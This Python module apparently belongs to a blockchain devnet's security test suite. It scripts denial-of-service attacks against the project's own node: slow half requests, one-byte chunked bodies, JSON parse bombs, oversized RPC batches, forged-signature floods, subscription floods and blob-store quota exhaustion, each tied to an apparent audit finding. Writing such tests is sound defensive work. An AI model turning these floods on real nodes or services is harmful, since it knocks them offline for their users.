"""Attacks of clients on JSON-RPC, on sockets that are held and not used, and on a provider's blob store."""

from __future__ import annotations

import json
import os
import socket
import struct
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

import trio

from devnet.launcher.layout import Devnet
from devnet.proofs.flood.attack import (
    SOURCE_ADDRESS,
    Door,
    Needs,
    Scene,
    attack,
    each_dripping,
    each_socket,
    each_stream,
    victim_of,
)
from devnet.proofs.flood.clients import (
    LOOPBACK,
    READ_BYTES,
    BadAnswerError,
    WebSocket,
    WebSocketError,
    ask,
    batch_body,
    call,
    call_body,
    open_socket,
    request_head,
)
from devnet.proofs.flood.peer_blocks import BATCHES, MARK, REMARKS_PER_BATCH, FloodSigner, with_client
from genesis import dev_accounts
from gpu_tasks.data.sealing import BLOB_BYTES_MAX
from node.rpc.jsonrpc import MAX_BATCH, MAX_DEPTH, MAX_REQUEST_MEBIBYTES, RequestLimits
from node.rpc.methods.state import KEYS_AT_ONCE, MAX_KEYS_PER_QUERY
from runtime.cryptography import ss58
from runtime.frame.weights import SIGNED_LENGTH_MAX_BYTES
from runtime.pallets.system import System
from runtime.pallets.utility import Utility
from runtime.state.trie_node import MAX_KEY_BYTES
from wallet.client import ChainClient
from wallet.suri import keypair_from_suri

JSON = {"Content-Type": "application/json"}
AGAIN_SECONDS = 0.05


async def post_again_and_again(
    scene: Scene, make: Callable[[int], bytes], clients: int = 1, headers: Mapping[str, str] | None = None
) -> None:
    """So many clients post one body after the other, each when its last was answered."""
    await scene.begin()
    async with trio.open_nursery() as nursery:
        for client in range(clients):
            nursery.start_soon(_post, scene, make, client, headers or JSON)


async def _post(scene: Scene, make: Callable[[int], bytes], number: int, headers: Mapping[str, str]) -> None:
    async for _ in scene.paced(1 / AGAIN_SECONDS, at_once=1):
        body = make(number)
        number += 1
        scene.sent(1, len(body))
        try:
            answer = await ask(scene.victim.ports.rpc, "POST", "/", body, SOURCE_ADDRESS, headers)
            scene.note(f"status {answer.status}")
        except (OSError, trio.BrokenResourceError, BadAnswerError) as error:
            scene.note(f"no answer: {type(error).__name__}")


PROVING_CLIENTS = 300
HALF_HEADS = 1_200
"""More than the 1,024 files that a process may usually open."""
CRUMBLING_CLIENTS = 20
SUBSCRIBERS_OF_ADDRESS = 25
"""A fourth of the WebSockets of a node, which is what one address may have."""
ADDRESSES = tuple(f"127.0.0.{number}" for number in range(66, 70))
HALF_HEAD = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
JSON_HEAD = b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
CRUMBS = b"1\r\na\r\n" * 10_000


@attack("own", messages_max=200_000, doors=(Door.PROOFS, Door.WEBSOCKET), hogged=True)
async def proving_crowd(scene: Scene) -> None:
    """300 connections of one address that each ask for a proof of 64 keys, and again when it has come."""
    body = call_body("state_getReadProof", ["0x" + os.urandom(32).hex() for _ in range(KEYS_AT_ONCE)])
    request = JSON_HEAD + f"Content-Length: {len(body)}\r\n\r\n".encode() + body
    await each_stream(scene, scene.victim.ports.rpc, PROVING_CLIENTS, partial(_ask_again, request=request))


@attack("own", messages_max=200_000, doors=(Door.PROOFS, Door.WEBSOCKET), hogged=True)
async def half_heads(scene: Scene) -> None:
    """1,200 requests to JSON-RPC whose head never ends, a byte a second, back when they are closed."""
    await each_dripping(scene, scene.victim.ports.rpc, HALF_HEADS, HALF_HEAD)


@attack("own", messages_max=200_000, doors=(Door.PROOFS, Door.WEBSOCKET), hogged=True)
async def crumbs(scene: Scene) -> None:
    """20 bodies to JSON-RPC in chunks of one byte, as fast as they go, back when they are closed."""
    sending = partial(_crumble, head=JSON_HEAD + CHUNKED)
    await each_stream(scene, scene.victim.ports.rpc, CRUMBLING_CLIENTS, sending)


@attack("own", messages_max=200_000, doors=(Door.BLOBS,), needs=Needs.PROVIDER, hogged=True)
async def crumbs_for_a_store(scene: Scene) -> None:
    """20 uploads to a provider's blob store in chunks of one byte, as fast as they go."""
    sending = partial(_crumble, head=b"PUT /blobs HTTP/1.1\r\nHost: 127.0.0.1\r\n" + CHUNKED)
    await each_stream(scene, scene.victim.ports.blobs, CRUMBLING_CLIENTS, sending)


@attack("own", messages_max=20_000, doors=(Door.PROOFS, Door.WEBSOCKET), hogged=True)
async def subscribing_addresses(scene: Scene) -> None:
    """25 WebSockets from each of four addresses, with one subscription each: as many as a node takes."""

    async def serve(scene: Scene, socket: WebSocket) -> None:
        await socket.call(HEADS)
        scene.sent(1, 0)
        while True:
            await socket.receive()

    await each_socket(scene, SUBSCRIBERS_OF_ADDRESS, serve, ADDRESSES)


async def _ask_again(scene: Scene, stream: trio.SocketStream, request: bytes) -> None:
    while True:
        await stream.send_all(request)
        scene.sent(1, len(request))
        received = b""
        while not _is_whole(received):
            data = await stream.receive_some(READ_BYTES)
            if not data:
                return
            received += data
        scene.note("refused" if b'"error"' in received else "answered")


def _is_whole(answer: bytes) -> bool:
    head, mark, body = answer.lower().partition(b"\r\n\r\n")
    length = head.partition(b"content-length: ")[2].partition(b"\r\n")[0]
    return bool(mark) and len(body) >= int(length or b"0")


async def _crumble(scene: Scene, stream: trio.SocketStream, head: bytes) -> None:
    await stream.send_all(head)
    while True:
        await stream.send_all(CRUMBS)
        scene.sent(1, len(CRUMBS))


FROM_A_PAGE = {"Content-Type": "text/plain", "Origin": "https://page.example"}
USER = "//Charlie"


async def _was_submitted(net: Devnet) -> list[str]:
    """Whether the extrinsic that came with a foreign origin was taken: its signer's nonce then moved."""
    account = ss58.encode(keypair_from_suri(USER).account)
    body = call_body("system_accountNextIndex", account)
    answer = await ask(victim_of(net).ports.rpc, "POST", "/", body, SOURCE_ADDRESS, JSON)
    moved = json.loads(answer.body)["result"]
    return [f"a call with a foreign origin was executed: {moved} extrinsics of {USER} were taken"] if moved else []


@attack("M1", messages_max=5_000, aftermath=_was_submitted)
async def foreign_origin(scene: Scene) -> None:
    """POST as a foreign page sends it, without a preflight: a submission, and batches of metadata.

    The origin was looked at when the calls had run; the page sees 403, and what it wanted has happened.
    """

    async def submission(client: ChainClient) -> bytes:
        extrinsic = await client.sign(System.remark(remark=b"from a page"), keypair_from_suri(USER))
        return call_body("author_submitExtrinsic", "0x" + extrinsic.hex())

    bodies = [await with_client(scene.net, submission)]
    bodies += [batch_body([call("state_getMetadata", number=number) for number in range(100)])] * 3
    await post_again_and_again(scene, lambda number: bodies[number % len(bodies)], clients=4, headers=FROM_A_PAGE)


HEIGHTS, CALLS = 1_000, 100
BACK_MOST = 256
"""At most so many blocks back the RPC process remembers states."""


async def result_of(scene: Scene, method: str, *params: Any) -> Any:
    """The answer to one call; None when it was refused."""
    answer = await ask(scene.victim.ports.rpc, "POST", "/", call_body(method, *params), SOURCE_ADDRESS, JSON)
    return json.loads(answer.body).get("result")


async def _final_height(scene: Scene) -> int:
    header = await result_of(scene, "chain_getHeader", await result_of(scene, "chain_getFinalizedHead"))
    return int(header["number"], 16)


@attack("M7", messages_max=2_000)
async def batch_of_heights(scene: Scene) -> None:
    """A hundred calls of `chain_getBlockHash` with the thousand newest heights each: half a megabyte of questions.

    For each height the chain of parents was walked down from the final block: 15 s of the process.
    """
    final = await _final_height(scene)
    heights = [max(0, final - back) for back in range(HEIGHTS)]
    body = batch_body([call("chain_getBlockHash", heights, number=number) for number in range(CALLS)])
    await post_again_and_again(scene, lambda _: body)


@attack("M7", messages_max=2_000)
async def batch_of_keys(scene: Scene) -> None:
    """500 calls of `state_getKeysPaged` at the oldest block whose state is remembered, under all that came later."""
    final, block, back = await _final_height(scene), None, BACK_MOST
    while back and block is None:
        back = back * 7 // 8
        candidate = await result_of(scene, "chain_getBlockHash", max(0, final - back))
        block = candidate if await result_of(scene, "state_getKeysPaged", "0x", 1, None, candidate) else None
    scene.note(f"{back} blocks back")
    calls = [call("state_getKeysPaged", "0x", 1_000, None, block, number=number) for number in range(MAX_BATCH)]
    body = batch_body(calls)
    await post_again_and_again(scene, lambda _: body)


@attack("A15", messages_max=2_000)
async def batch_of_metadata(scene: Scene) -> None:
    """Batches of 100 `state_getMetadata`, one after the other by three clients: answered without giving way."""
    body = batch_body([call("state_getMetadata", number=number) for number in range(CALLS)])
    await post_again_and_again(scene, lambda _: body, clients=3)


SUBMIT = "author_submitExtrinsic"
FORGED, FORGED_CLIENTS = 4, 4
LONG_FUTURES, FUTURES_AT_ONCE = 400, 3
LONG_REMARK_BYTES = 60_000  # of two in each
WATCHING_CLIENTS, WATCHED_SETS = 25, 20
PROOFS, HEADERS_CLIENTS = 20, 3


def nested_batch(scene: Scene) -> bytes:
    """An extrinsic as long as one may be signed, a thousand batches, whose signature is `MARK`."""
    inner = Utility.batch(calls=(System.remark(remark=b""),) * (2 * REMARKS_PER_BATCH))
    raw = FloodSigner.of(scene).unsigned(Utility.batch(calls=(inner,) * BATCHES), dev_accounts.stash("Alice"))
    assert len(raw) <= SIGNED_LENGTH_MAX_BYTES
    return raw


@attack("E1", messages_max=2_000)
async def forged_submissions(scene: Scene) -> None:
    """Four clients hand in the longest extrinsics under a rich account's name, four a batch, with random signatures.

    The pool has accounts of time for peers; what came by RPC had none.
    """
    head, _, tail = nested_batch(scene).partition(MARK)

    def make(_: int) -> bytes:
        raws = ["0x" + (head + os.urandom(len(MARK)) + tail).hex() for _ in range(FORGED)]
        return batch_body([call(SUBMIT, raw, number=number) for number, raw in enumerate(raws)])

    await post_again_and_again(scene, make, clients=FORGED_CLIENTS)


@attack("E1", messages_max=2_000)
async def small_forged_submissions(scene: Scene) -> None:
    """The same with 500 of the shortest in each batch: a signature to check for every 150 bytes."""
    raw = FloodSigner.of(scene).unsigned(System.remark(remark=b""), dev_accounts.stash("Alice"))
    head, _, tail = raw.partition(MARK)

    def make(_: int) -> bytes:
        raws = ["0x" + (head + os.urandom(len(MARK)) + tail).hex() for _ in range(MAX_BATCH)]
        return batch_body([call(SUBMIT, raw, number=number) for number, raw in enumerate(raws)])

    await post_again_and_again(scene, make, clients=FORGED_CLIENTS)


@attack("E2", messages_max=LONG_FUTURES)
async def long_futures(scene: Scene) -> None:
    """Extrinsics of 100 kB and more with good signatures of an account that can pay, each nonce ahead of its time."""
    signer, key = FloodSigner.of(scene), keypair_from_suri("//Ferdie")
    nonce = await with_client(scene.net, lambda client: client.nonce(key.account))
    long = Utility.batch(calls=(System.remark(remark=os.urandom(LONG_REMARK_BYTES)),) * 2)
    raws = [signer.signed(long, key, nonce + 2 + ahead) for ahead in range(LONG_FUTURES)]
    bodies = [
        batch_body(
            [call(SUBMIT, "0x" + raw.hex(), number=number) for number, raw in enumerate(raws[at:][:FUTURES_AT_ONCE])]
        )
        for at in range(0, LONG_FUTURES, FUTURES_AT_ONCE)
    ]
    await post_again_and_again(scene, lambda number: bodies[number % len(bodies)], clients=2)


@attack("E3", messages_max=50_000)
async def watched_keys(scene: Scene) -> None:
    """25 clients that subscribe to a thousand of the longest keys, twenty times each, and to a thousand that exist."""
    longest = [b"\xff" * (MAX_KEY_BYTES - 4) + number.to_bytes(4, "big") for number in range(MAX_KEYS_PER_QUERY)]
    there = await result_of(scene, "state_getKeysPaged", "0x", MAX_KEYS_PER_QUERY, None)
    bodies = [call_body("state_subscribeStorage", ["0x" + key.hex() for key in longest])] * WATCHED_SETS
    bodies.append(call_body("state_subscribeStorage", there))

    async def serve(scene: Scene, socket: WebSocket) -> None:
        for body in bodies:
            await socket.send(body)
            scene.sent(1, len(body))
        while True:
            message = await socket.receive()
            scene.note("refused" if "error" in message else "answered")

    await each_socket(scene, WATCHING_CLIENTS, serve)


@attack("E4", messages_max=2_000)
async def proofs_at_the_limit(scene: Scene) -> None:
    """Batches of twenty `state_getReadProof` with a thousand keys each, by two clients."""
    keys = await result_of(scene, "state_getKeysPaged", "0x", MAX_KEYS_PER_QUERY, None)
    body = batch_body([call("state_getReadProof", keys, number=number) for number in range(PROOFS)])
    if len(body) > RequestLimits().request_bytes:  # it would be refused unread
        body = batch_body([call("state_getReadProof", keys, number=number) for number in range(PROOFS // 4)])
    await post_again_and_again(scene, lambda _: body, clients=2)


@attack("E4", messages_max=2_000)
async def certified_headers(scene: Scene) -> None:
    """Batches of 500 `ogpu_certifiedHeader`, each of a height of its own: a header and a certificate from the disk."""
    body = batch_body([call("ogpu_certifiedHeader", number, number=number) for number in range(MAX_BATCH)])
    await post_again_and_again(scene, lambda _: body, clients=HEADERS_CLIENTS)


@attack("E5", messages_max=2_000)
async def nested_fees(scene: Scene) -> None:
    """What a thousand batches within one extrinsic of 117 kB would cost, asked by two clients again and again."""
    body = call_body("payment_queryInfo", "0x" + nested_batch(scene).hex())
    await post_again_and_again(scene, lambda _: body, clients=2)


CLIENTS, SUBSCRIPTIONS, PER_BATCH = 40, 1_024, 128
SLOW_CLIENTS, REQUESTS_EACH = 60, 40
HEADS = "chain_subscribeNewHeads"


async def _subscribe(scene: Scene, socket: WebSocket) -> None:
    for start in range(0, SUBSCRIPTIONS, PER_BATCH):
        body = batch_body([call(HEADS, number=start + offset) for offset in range(PER_BATCH)])
        await socket.send(body)
        scene.sent(1, len(body))


@attack("N3", messages_max=20_000)
async def many_subscriptions(scene: Scene) -> None:
    """40 clients with 1,024 subscriptions each, in batches, that read all that comes: nothing bounded them together."""

    async def serve(scene: Scene, socket: WebSocket) -> None:
        await _subscribe(scene, socket)
        while True:
            await socket.receive()

    await each_socket(scene, CLIENTS, serve)


@attack("N4", messages_max=20_000)
async def unread_subscriptions(scene: Scene) -> None:
    """The same clients, but none reads: each dropped item was a line in the node's log, 30,000 a second."""

    async def serve(scene: Scene, socket: WebSocket) -> None:
        await _subscribe(scene, socket)
        await trio.sleep_forever()

    await each_socket(scene, CLIENTS, serve)


@attack("N3b", messages_max=50_000)
async def slow_readers(scene: Scene) -> None:
    """60 clients with 40 requests for metadata each, never read: what waits for one client was bounded, for all not."""
    body = call_body("state_getMetadata")

    async def serve(scene: Scene, socket: WebSocket) -> None:
        for _ in range(REQUESTS_EACH):
            await socket.send(body)
            scene.sent(1, len(body))
        await trio.sleep_forever()

    await each_socket(scene, SLOW_CLIENTS, serve)


ABORTING_CLIENTS, PER_SECOND = 10, 5
ANSWERS = 20
FIRST_BYTES = 1_000
ABORTED = (OSError, trio.BrokenResourceError, trio.ClosedResourceError, WebSocketError)


@attack("A16", messages_max=50_000)
async def aborting_clients(scene: Scene) -> None:
    """Ten clients ask for megabytes of metadata, by POST and by WebSocket, and reset the connection at the first byte.

    Each left a stack trace in the log.
    """
    await scene.begin()
    async with trio.open_nursery() as nursery:
        for client in range(ABORTING_CLIENTS):
            nursery.start_soon(_abort_again_and_again, scene, client % 2 == 0)


async def _abort_again_and_again(scene: Scene, by_post: bool) -> None:
    body = batch_body([call("state_getMetadata", number=number) for number in range(ANSWERS)])
    async for _ in scene.paced(PER_SECOND, at_once=1):
        try:
            stream = await (_posted if by_post else _sent)(scene.victim.ports.rpc, body)
            scene.sent(1, len(body))
            await stream.receive_some(FIRST_BYTES)
            await reset(stream)
        except ABORTED as error:
            scene.note(f"refused: {error}")


async def _posted(port: int, body: bytes) -> trio.SocketStream:
    stream = await trio.open_tcp_stream(LOOPBACK, port, local_address=SOURCE_ADDRESS)
    await stream.send_all(request_head("POST", "/", port, len(body), JSON) + body)
    return stream


async def _sent(port: int, body: bytes) -> trio.SocketStream:
    opened = await open_socket(port, SOURCE_ADDRESS)
    await opened.send(body)
    await opened.ping()
    return opened.stream


async def reset(stream: trio.SocketStream) -> None:
    """Close so that the other end's writes fail."""
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    await trio.aclose_forcefully(stream)


MAX_REQUEST_BYTES = MAX_REQUEST_MEBIBYTES * 1024 * 1024
QUOTES = b'"' + b'\\"' * (MAX_REQUEST_BYTES // 2 - 1)


@attack("C3", messages_max=2_000)
async def parse_bomb(scene: Scene) -> None:
    """1 MB of escaped quotes that no quote ends: a search that began anew at each of them took half an hour."""
    await post_again_and_again(scene, lambda _: QUOTES, clients=4)


@attack("C3", messages_max=2_000)
async def parse_bomb_by_websocket(scene: Scene) -> None:
    """The same as a WebSocket message."""
    await scene.begin()
    async for _ in scene.paced(2, at_once=1):
        try:
            socket = await open_socket(scene.victim.ports.rpc, SOURCE_ADDRESS)
            scene.sent(1, len(QUOTES))
            await socket.send(QUOTES)
            await socket.receive()
            await socket.aclose()
            scene.note("answered")
        except (WebSocketError, OSError, trio.BrokenResourceError) as error:
            scene.note(f"no answer: {type(error).__name__}")


@attack("M7", messages_max=5_000)
async def json_bombs(scene: Scene) -> None:
    """1 MB of empty strings, of numbers of 4,000 digits, of brackets to the permitted depth, of short objects."""
    size = MAX_REQUEST_BYTES - 16
    deepest = b"[" * (MAX_DEPTH - 1) + b"]" * (MAX_DEPTH - 1) + b","
    bodies = [b"[" + part * (size // len(part)) + b"0]" for part in (b'"",', b"9" * 4_000 + b",", deepest, b"{},")]
    await post_again_and_again(scene, lambda number: bodies[number % len(bodies)], clients=4)


MANY = 1_200
"""More than the 1,024 files that a process may usually open."""
WEBSOCKETS = 150
"""More than the 100 that the RPC process takes by default."""
HALF_REQUEST = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
HALF_POST = b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
HALF_NEGOTIATION = b"\x13/multistream/1.0.0"


@attack("M4", messages_max=200_000, doors=(Door.PEERS,))
async def silent_peers(scene: Scene) -> None:
    """1,200 connections to the port for peers that never finish a handshake, back when they are closed."""
    await each_dripping(scene, scene.victim.ports.peers, MANY, HALF_NEGOTIATION)


@attack("M4", messages_max=200_000, doors=(Door.METRICS,))
async def half_metrics_requests(scene: Scene) -> None:
    """1,200 half requests to the metrics port, a byte a second: each took a thread and a file of the node for ever.

    With 1,024 files the node could not write its sign-state, and died.
    """
    await each_dripping(scene, scene.victim.ports.metrics, MANY, HALF_REQUEST)


@attack("M4", messages_max=200_000, doors=(Door.WEBSOCKET,))
async def slow_posts(scene: Scene) -> None:
    """1,200 POST requests to JSON-RPC that announce 100 kB and send a byte a second."""
    await each_dripping(scene, scene.victim.ports.rpc, MANY, HALF_POST)


@attack("N9", messages_max=50_000, doors=(Door.WEBSOCKET,))
async def idle_websockets(scene: Scene) -> None:
    """150 WebSockets from one address that say nothing: an honest client must still find a place."""

    async def serve(scene: Scene, socket: WebSocket) -> None:
        scene.sent(1, 0)
        while True:
            await socket.receive()

    await each_socket(scene, WEBSOCKETS, serve)


SLOW_UPLOADS = 48
"""More than the 32 requests that the store serves at once."""
UPLOADERS = 8
BLOB_BYTES = BLOB_BYTES_MAX
UPLOAD_BROKEN = (OSError, trio.BrokenResourceError, trio.ClosedResourceError, BadAnswerError)


@attack("M5", messages_max=50_000, doors=(Door.BLOBS,), needs=Needs.PROVIDER)
async def slow_uploads(scene: Scene) -> None:
    """48 uploads that send a byte a second, back when they are closed: 34 shut the store for reads as well."""
    port = scene.victim.ports.blobs
    opening = request_head("PUT", "/blobs", port, BLOB_BYTES, {})
    await each_dripping(scene, port, SLOW_UPLOADS, opening)


@attack("M5", messages_max=3_000, doors=(Door.BLOBS,), needs=Needs.PROVIDER)
async def full_quota(scene: Scene) -> None:
    """Eight clients store the largest blobs as fast as they are taken, until the quota for strangers is used up."""
    await scene.begin()
    async with trio.open_nursery() as nursery:
        for _ in range(UPLOADERS):
            nursery.start_soon(_store, scene)


async def _store(scene: Scene) -> None:
    async for _ in scene.paced(100, at_once=1):
        blob = os.urandom(BLOB_BYTES)
        scene.sent(1, len(blob))
        try:
            answer = await ask(scene.victim.ports.blobs, "PUT", "/blobs", blob, SOURCE_ADDRESS)
            scene.note(f"status {answer.status}")
        except UPLOAD_BROKEN as error:
            scene.note(f"no answer: {type(error).__name__}")
